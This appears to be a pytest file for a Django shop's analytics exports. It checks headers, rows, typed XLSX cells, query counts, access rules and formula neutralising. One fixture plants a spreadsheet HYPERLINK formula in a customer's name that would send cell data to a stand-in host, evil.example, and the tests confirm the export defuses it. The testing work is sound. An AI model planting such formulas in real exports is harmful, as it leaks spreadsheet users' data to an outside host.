"""The exports: header rows, rows, formula neutralising in CSV and XLSX, streaming, access, the command."""

import csv
import io
from decimal import Decimal

import pytest
from django.core.management import CommandError, call_command
from django.db import connection
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from accounts.models import Role
from accounts.tests.factories import UserFactory
from analytics.exports import EXPORTS, KINDS, neutralise
from analytics.tests.shop import nairobi, order
from core.testing import authenticated_client

RANGE = "date_from=2026-03-01&date_to=2026-03-31"
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _csv_rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:])))


def _xlsx_rows(response) -> list[tuple]:
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return list(workbook.active.iter_rows(values_only=True))


@pytest.fixture
def shop(db):
    evil = UserFactory(first_name=EVIL, last_name="-1+1", email="evil@example.com")
    order(paid_at=nairobi(2026, 3, 10, 23, 30), user=evil, subtotal=Decimal("1160.00"), rate=Decimal("16"))
    order(paid_at=nairobi(2026, 3, 11, 9, 0), subtotal=Decimal("500.00"))
    order(paid_at=nairobi(2026, 4, 1, 0, 30), subtotal=Decimal("999.00"))  # outside the range
    order(paid_at=None, subtotal=Decimal("300.00"))  # never paid
    return evil


@pytest.mark.parametrize(
    ("cell", "expected"),
    [("=1+1", "'=1+1"), ("+254", "'+254"), ("-x", "'-x"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
     ("\rx", "'\rx"), ("Alice", "Alice"), ("", ""), (-5, -5), (Decimal("-1.50"), Decimal("-1.50"))],
)  # fmt: skip
def test_neutralise_prefixes_formula_text_and_leaves_numbers(cell, expected):
    assert neutralise(cell) == expected


@pytest.mark.parametrize("kind", KINDS)
def test_every_kind_answers_a_csv_with_its_header_row(staff_api, shop, kind):
    response = staff_api.get(f"/api/v1/analytics/export/{kind}?{RANGE}")
    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"] == f'attachment; filename="duka-{kind}-2026-03-01-to-2026-03-31.csv"'
    assert _csv_rows(response)[0] == list(EXPORTS[kind].header)


@pytest.mark.parametrize("kind", KINDS)
def test_every_kind_answers_an_xlsx_with_its_header_row(staff_api, shop, kind):
    response = staff_api.get(f"/api/v1/analytics/export/{kind}?{RANGE}&format=xlsx")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"].endswith('2026-03-31.xlsx"')
    assert list(_xlsx_rows(response)[0]) == list(EXPORTS[kind].header)


def test_orders_export_holds_the_orders_paid_in_the_range_by_store_day(staff_api, shop):
    rows = _csv_rows(staff_api.get(f"/api/v1/analytics/export/orders?{RANGE}"))[1:]
    assert len(rows) == 2
    assert [row[1] for row in rows] == ["2026-03-10 23:30:00", "2026-03-11 09:00:00"]
    assert [row[5] for row in rows] == ["evil@example.com", rows[1][5]]
    assert rows[0][11] == "1160.00"  # total (tax-inclusive)
    assert rows[0][10] == "160.00"  # tax


def test_a_formula_name_is_neutralised_in_csv(staff_api, shop):
    rows = _csv_rows(staff_api.get(f"/api/v1/analytics/export/customers?{RANGE}"))
    evil = next(row for row in rows if row[1] == "evil@example.com")
    assert evil[2] == "'" + EVIL
    assert evil[3] == "'-1+1"


def test_a_formula_name_is_text_in_xlsx_and_numbers_are_numbers(staff_api, shop):
    rows = _xlsx_rows(staff_api.get(f"/api/v1/analytics/export/customers?{RANGE}&format=xlsx"))
    evil = next(row for row in rows if row[1] == "evil@example.com")
    assert evil[2] == "'" + EVIL
    assert isinstance(evil[4], int) and evil[4] == 1
    assert isinstance(evil[5], int | float) and evil[5] == 1160


def test_xlsx_cells_are_typed(staff_api, shop):
    response = staff_api.get(f"/api/v1/analytics/export/orders?{RANGE}&format=xlsx")
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    first = next(workbook.active.iter_rows(min_row=2, max_row=2))
    assert first[11].data_type == "n" and first[11].value == 1160
    assert first[0].data_type == "s"


def test_tax_export_has_a_row_per_month_of_the_range(staff_api, shop):
    rows = _csv_rows(staff_api.get("/api/v1/analytics/export/tax?date_from=2026-02-01&date_to=2026-03-31"))
    assert rows[1:] == [["2026-02-01", "0", "0.00", "0.00"], ["2026-03-01", "2", "1500.00", "160.00"]]


def test_order_lines_and_products_exports_list_the_sold_lines(staff_api, shop):
    lines = _csv_rows(staff_api.get(f"/api/v1/analytics/export/order-lines?{RANGE}"))[1:]
    products = _csv_rows(staff_api.get(f"/api/v1/analytics/export/products?{RANGE}"))[1:]
    assert len(lines) == 2 and len(products) == 2
    assert [row[4] for row in products] == ["1160.00", "500.00"]


def _queries(client, kind: str) -> int:
    with CaptureQueriesContext(connection) as queries:
        response = client.get(f"/api/v1/analytics/export/{kind}?{RANGE}")
        b"".join(response.streaming_content)
    return len(queries)


@pytest.mark.parametrize("kind", KINDS)
def test_query_count_does_not_grow_with_the_rows(staff_api, db, kind):
    few = _queries(staff_api, kind)
    for day in range(1, 21):
        order(paid_at=nairobi(2026, 3, day, 12), subtotal=Decimal("100.00"), user=UserFactory())
    assert _queries(staff_api, kind) == few


def test_anonymous_callers_are_asked_to_sign_in(api, db):
    assert api.get("/api/v1/analytics/export/orders").status_code == 401


@pytest.mark.parametrize("role", [Role.CUSTOMER, Role.TECHNICIAN])
def test_customers_and_technicians_are_refused(db, role):
    client = authenticated_client(UserFactory(role=role))
    assert client.get("/api/v1/analytics/export/orders").status_code == 403
    assert client.get("/api/v1/analytics/export/repairs?format=xlsx").status_code == 403


def test_an_unknown_kind_answers_404(staff_api):
    assert staff_api.get("/api/v1/analytics/export/invoices").status_code == 404


@pytest.mark.parametrize(
    ("query", "attr"),
    [("format=pdf", "format"), ("format=json", "format"), ("date_from=2026-13-01", "date_from"),
     ("date_from=2026-05-02&date_to=2026-05-01", "date_to")],
)  # fmt: skip
def test_bad_parameters_answer_400_naming_the_parameter(staff_api, query, attr):
    response = staff_api.get(f"/api/v1/analytics/export/orders?{query}")
    assert response.status_code == 400
    assert response.json()["type"] == "validation_error"
    assert response.json()["errors"][0]["attr"] == attr


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_command_writes_a_file(shop, tmp_path, fmt):
    target = tmp_path / f"customers.{fmt}"
    call_command("analytics_export", "customers", "--format", fmt, "--from", "2026-03-01", "--to", "2026-03-31",
                 "--output", str(target), stdout=io.StringIO())  # fmt: skip
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(target.read_text(encoding="utf-8-sig"))))
    else:
        rows = list(load_workbook(target).active.iter_rows(values_only=True))
    assert list(rows[0]) == list(EXPORTS["customers"].header)
    assert len(rows) == 3


def test_the_command_refuses_bad_dates(db, tmp_path):
    with pytest.raises(CommandError, match="date_to is before date_from"):
        call_command("analytics_export", "tax", "--from", "2026-05-02", "--to", "2026-05-01",
                     "--output", str(tmp_path / "tax.csv"))  # fmt: skip
